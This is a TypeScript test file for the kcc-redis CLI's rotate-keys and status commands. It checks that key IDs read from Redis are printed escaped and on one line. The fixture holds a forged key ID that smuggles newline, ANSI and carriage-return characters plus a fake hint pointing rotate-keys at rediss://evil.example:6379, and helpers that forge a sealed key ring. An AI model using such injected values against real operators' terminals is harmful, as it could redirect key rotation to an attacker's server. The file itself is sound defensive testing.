/**
 * Values read from Redis stay on the line of the sentence that names them. A holder of the app's
 * Redis credentials and its key-encryption key can write a ring whose kid holds a line break and an
 * ANSI escape; rotate-keys names kids in sentences (the pending key, the active key in the
 * confirmation, a refused ring's reason) and, since it prints runnable command lines as hints, a
 * forged kid ending in "... kcc-redis rotate-keys ... --url rediss://evil.example:6379 --immediate.\n"
 * printed raw would look like a genuine hint on a line of its own (a review of today's fixes). Each
 * is shown escaped, on its sentence's line; status shows the same kids in its table, escaped too.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KccRedis, KeyRing } from '../../../client/src/index.js';
import { KeyEncryptionKey } from '../../../client/src/keyring/key-encryption.js';
import { parseConfig } from '../../../infra/config.js';
import type { LocalRedis } from '../../../local/local-redis.js';
import { envFilePath, runLocal } from '../../../local/run-local.js';
import { readEnvFile, runCliInProcess } from '../../support/cli.js';
import { ringPayload, sealedWith, storedRing, writeStoredRing } from '../../support/stored-ring.js';

/** One app-env per test, each with its own ring. */
const ENVS = ['dev', 'qa', 'stage', 'test'] as const;
const config = parseConfig({ apps: [{ name: 'shop', envs: [...ENVS] }] });

/** A forged kid: a fake hint on a line of its own, an ANSI color, a carriage return. */
const FORGED = 'x; to replace it now, kcc-redis rotate-keys --app shop --env dev --url rediss://evil.example:6379 --immediate.\n\u001b[31mred\rz';
/** How the CLI shows it: every control character as a \uXXXX escape. */
const SHOWN = 'x; to replace it now, kcc-redis rotate-keys --app shop --env dev --url rediss://evil.example:6379 --immediate.\\u000a\\u001b[31mred\\u000dz';

type RingKey = { kid: string; createdAt: number; activatesAt: number; retiresAt: number | null; expiresAt: number | null; publicJwk: Record<string, unknown>; privateJwe: string };
type RingDoc = { generation: number; keys: RingKey[]; compromised: string[] };

describe('kcc-redis rotate-keys and status: a kid from Redis is shown escaped, on its sentence\'s line', () => {
  let dir: string;
  let server: LocalRedis;
  const connections: KccRedis[] = [];

  /** App-env shop-`name` with its ring as the first instance creates it, and what a holder of its credentials and key-encryption key can do. */
  async function appEnv(name: (typeof ENVS)[number]) {
    const env = await readEnvFile(envFilePath(dir, { app: 'shop', env: name }));
    const redis = await KccRedis.connect({ env, heartbeat: false });
    connections.push(redis);
    await (await KeyRing.start(redis, { env })).close();
    const client = redis.client as unknown as Redis;
    const user = `shop-${name}`;
    const kek = new KeyEncryptionKey(env.KCC_KEYRING_KEK!);
    /** `key` under another kid, its private half bound to that kid too. */
    const renamed = async (key: RingKey, kid: string): Promise<RingKey> => {
      const privateJwk = kek.decrypt(key.privateJwe, key.kid);
      return { ...key, kid, publicJwk: { ...key.publicJwk, kid }, privateJwe: await kek.encrypt({ ...privateJwk, kid }, kid) };
    };
    /** Rewrites the stored ring, sealed with the app-env's key-encryption key. */
    const forge = async (change: (doc: RingDoc) => Promise<void>) => {
      const doc = ringPayload((await storedRing(client, user))!.value) as unknown as RingDoc;
      await change(doc);
      doc.generation += 1;
      await writeStoredRing(client, user, await sealedWith(env.KCC_KEYRING_KEK!, doc as never));
    };
    /** The ring's key `which` under the forged kid. */
    const forgeKid = (which: (keys: RingKey[]) => RingKey) =>
      forge(async (doc) => {
        const key = which(doc.keys);
        doc.keys[doc.keys.indexOf(key)] = await renamed(key, FORGED);
      });
    return { args: ['--local-dir', dir, '--app', 'shop', '--env', name], renamed, forge, forgeKid };
  }

  /** No line holds an ESC or a CR, and the forged hint only inside the one line naming the kid, escaped. */
  const expectOneLine = (output: string) => {
    expect(output).not.toMatch(/[\u001b\r]/);
    expect(output.split('\n').filter((line) => line.includes('evil.example'))).toEqual([expect.stringContaining(SHOWN)]);
  };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'kcc-ring-values-'));
    server = await runLocal({ config, port: 0, dir, print: () => undefined });
  }, 90_000);
  afterAll(async () => {
    for (const redis of connections) await redis.close();
    await server?.stop();
    await rm(dir, { recursive: true, force: true });
  });

  it('a pending key\'s forged kid: rotate-keys\' "already pending" sentence and its hint stay one line', async () => {
    const app = await appEnv('dev');
    const scheduled = [...app.args, '--yes', '--activation-delay-ms', '600000'];
    expect((await runCliInProcess(['rotate-keys', ...scheduled])).code).toBe(0);
    await app.forgeKid((keys) => keys.find((k) => k.activatesAt > Date.now())!);
    const result = await runCliInProcess(['rotate-keys', ...scheduled]);
    expect(result.code).toBe(0);
    expectOneLine(result.stdout);
    expect(result.stdout.split('\n')).toHaveLength(1);
    expect(result.stdout).toMatch(/^shop-dev \(endpoint 127\.0\.0\.1:\d+\): not rotated: key x; .*\\u000dz was already pending \(activates [^)]+\); to replace it now, kcc-redis rotate-keys --app shop --env dev --local-dir \S+ --immediate\.$/);
    expect(result.stderr).toBe('');

    // status shows the same kid in its table, escaped as well.
    const status = await runCliInProcess(['status', ...app.args]);
    expectOneLine(status.stdout);
  });

  it('the active key\'s forged kid: rotate-keys\' confirmation (and its refusal without a terminal) stays one line', async () => {
    const app = await appEnv('qa');
    await app.forgeKid((keys) => keys.filter((k) => k.activatesAt <= Date.now()).at(-1)!);
    const asked = await runCliInProcess(['rotate-keys', ...app.args, '--immediate'], { answer: 'n' });
    expect(asked.code).toBe(2);
    expect(asked.asked).toHaveLength(1);
    // The question: the change on one line, then "Proceed?".
    expect(asked.asked[0]!.split('\n')).toEqual([expect.stringContaining(`; active key ${SHOWN}`), 'Proceed? [y/N] ']);
    const refused = await runCliInProcess(['rotate-keys', ...app.args, '--immediate']);
    expect(refused.code).toBe(2);
    expect(refused.stderr.split('\n')[0]).toContain(`active key ${SHOWN})`);
    expectOneLine(refused.stderr);
  });

  it('a refused ring whose reason names the forged kid: rotate-keys\' refusal stays one line', async () => {
    // A kid listed as compromised: instances refuse the ring, and the reason names the kid.
    const app = await appEnv('stage');
    await app.forge(async (doc) => {
      doc.keys[0] = await app.renamed(doc.keys[0]!, FORGED);
      doc.compromised = [FORGED];
    });
    const result = await runCliInProcess(['rotate-keys', ...app.args, '--yes', '--immediate']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('key ring is refused (');
    // The ring's refusal itself shows a kid escaped and cut to 64 characters (ring-data.ts), so the
    // forged hint past them never reaches the line.
    expect(result.stderr).not.toMatch(/[\u001b\r]/);
    expect(result.stderr).toContain(`kid "${FORGED.slice(0, 64)}… (${FORGED.length} characters)" is listed as compromised`);
    expect(result.stderr).not.toContain('evil.example');
    expect(result.stderr.split('\n')).toHaveLength(1);
  });

  it('a retired key\'s forged kid the rotation drops early: the client\'s warning rotate-keys prints stays one line', async () => {
    // A full ring (16 keys): the active one and 15 retired ones, the one retired the longest ago under the forged kid.
    const app = await appEnv('test');
    await app.forge(async (doc) => {
      const active = doc.keys[0]!;
      const now = Date.now();
      const retired = await Promise.all(
        Array.from({ length: 15 }, (_, i) =>
          app.renamed({ ...active, createdAt: now - 7_200_000, activatesAt: now - 7_200_000, retiresAt: now - 3_600_000 + i, expiresAt: now + 3_600_000 }, i === 0 ? FORGED : `retired-${i}`),
        ),
      );
      doc.keys = [...retired, active];
    });
    const result = await runCliInProcess(['rotate-keys', ...app.args, '--yes', '--activation-delay-ms', '600000']);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain(`kcc-redis (client): key ring rotation: the ring holds at most 16 keys, so retired key(s) ${SHOWN} left the JWKS`);
    expectOneLine(result.stderr);
    expect(result.stderr.split('\n')).toHaveLength(1);
    expect(result.stdout).toMatch(/: new key \S+ published, signs from /);
  });
});
